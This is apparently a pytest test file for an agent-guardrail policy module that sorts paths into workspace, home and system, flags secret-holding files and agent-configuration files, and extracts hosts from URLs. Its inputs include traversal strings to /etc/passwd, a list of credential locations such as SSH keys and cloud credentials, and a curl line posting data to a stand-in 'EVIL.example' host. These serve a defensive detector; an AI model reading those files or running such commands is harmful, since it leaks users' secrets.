"""Where paths and addresses lead, whichever way they are written."""

from __future__ import annotations

import time

import pytest

from notifier_service.core.policy.places import (
    guards_the_agent,
    holds_secrets,
    hosts_in,
    is_path,
    is_workspace,
    patched_files,
    place_of,
)

HERE = "/home/ana/app"


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("/home/ana/app/a.py", "workspace"),
        ("a.py", "workspace"),
        (".", "workspace"),
        ("/home/ana/app", "workspace"),
        ("src/../a.py", "workspace"),
        ("file:///home/ana/app/a.py", "workspace"),
        ("/home/ana/app/../other/a.py", "home"),
        ("../other/a.py", "home"),
        ("/home/ana/application/a.py", "home"),
        ("%2e%2e/%2e%2e/bob/x", "home"),
        ("~/notes", "home"),
        ("$HOME/notes", "home"),
        ("C:\\Users\\ana\\x", "home"),
        ("/etc/passwd", "system"),
        ("//etc//passwd", "system"),
        ("../../../etc/passwd", "system"),
        ("..\\..\\..\\etc\\passwd", "system"),
        ("C:\\Windows\\System32", "system"),
        ("/srv/data", "elsewhere"),
        ("/etcetera", "elsewhere"),
    ],
)
def test_path_leads_where_it_ends(path: str, place: str) -> None:
    assert place_of(path, HERE) == place


@pytest.mark.parametrize(("path", "place"), [("a.py", None), ("/srv/x", None), ("../x", None), ("/etc/x", "system")])
def test_without_a_workspace_only_what_is_certain_is_said(path: str, place: str | None) -> None:
    assert place_of(path, None) == place


@pytest.mark.parametrize("folder", ["/home/ana/app", "/srv/app", "/var/www", "C:\\work\\app", "/Users/ana/app"])
def test_folders_that_somebody_works_in(folder: str) -> None:
    assert is_workspace(folder)


@pytest.mark.parametrize(
    "folder",
    ["/", "/home", "/home/ana", "/root", "/etc", "/etc/nginx", "/home/ana/.ssh", "/home/ana/app/../../..", "app", "",
     None, 7],
)  # fmt: skip
def test_folders_that_are_no_workspace(folder: object) -> None:
    assert not is_workspace(folder)


@pytest.mark.parametrize(
    "path",
    [
        ".env", "app/.env.local", "prod.env", "~/.ssh/config", "/home/a/.ssh/id_ed25519", "id_rsa", "/etc/shadow",
        "server.pem", "tls.key", "~/.aws/credentials", ".npmrc", "secrets.yaml", "/proc/self/environ", ".ENV",
        "config/../.env", "%2eenv", "~/.config/gh/hosts.yml", "C:\\Users\\a\\.ssh\\id_rsa", ".env*",
        "client_secret.json", "/run/secrets/db",
    ],
)  # fmt: skip
def test_places_where_keys_lie(path: str) -> None:
    assert holds_secrets(path)


@pytest.mark.parametrize(
    "path",
    [".env.example", "environment.py", "src/token.py", "tokens.ts", "secrets.py", "id_rsa.pub", "keys.md", "a.keyword",
     "envs/x"],
)  # fmt: skip
def test_places_where_none_lie(path: str) -> None:
    assert not holds_secrets(path)


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", "/w/.claude/settings.json", ".mcp.json", "CLAUDE.md", ".github/workflows/x.yml"]
)
def test_what_runs_by_itself_or_says_what_an_agent_may_do(path: str) -> None:
    assert guards_the_agent(path)


def test_an_ordinary_file_guards_nothing() -> None:
    assert not any(map(guards_the_agent, ["src/app.py", ".gitignore", "claude.py"]))


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("https://api.example.org/x", ["api.example.org"]),
        ("curl -d @a http://u:p@EVIL.example:8080/?q", ["evil.example"]),
        ("https://good.example@evil.example/", ["evil.example"]),
        ("http://[::1]:80/ https://a.example https://a.example", ["[::1]", "a.example"]),
        ("postgresql://db.internal/x", ["db.internal"]),
        ("no address", []),
    ],
)
def test_hosts_of_the_addresses_in_a_text(text: str, hosts: list[str]) -> None:
    assert hosts_in(text) == hosts


def test_texts_that_look_like_paths() -> None:
    assert all(map(is_path, ["/x", "~/x", "./x", "../x", "file:///x"]))
    assert not any(map(is_path, ["x", "/x\ny", "/" + "x" * 5000]))


def test_files_that_a_patch_names() -> None:
    patch = (
        "*** Begin Patch\n*** Update File: a.py \n*** Move to: ../b.py\n-x\n+*** y\n*** Delete File: c\n*** End Patch"
    )

    assert patched_files(patch) == ["a.py", "../b.py", "c"]


@pytest.mark.parametrize("text", ["/" * 4096, "." * 4096, "a/" * 2048, ".env" * 1024, "https://" * 512, "%2e" * 1365])
def test_hostile_texts_take_no_time(text: str) -> None:
    began = time.perf_counter()
    place_of(text, HERE), holds_secrets(text), guards_the_agent(text), hosts_in(text), is_workspace(text)

    assert time.perf_counter() - began < 0.5
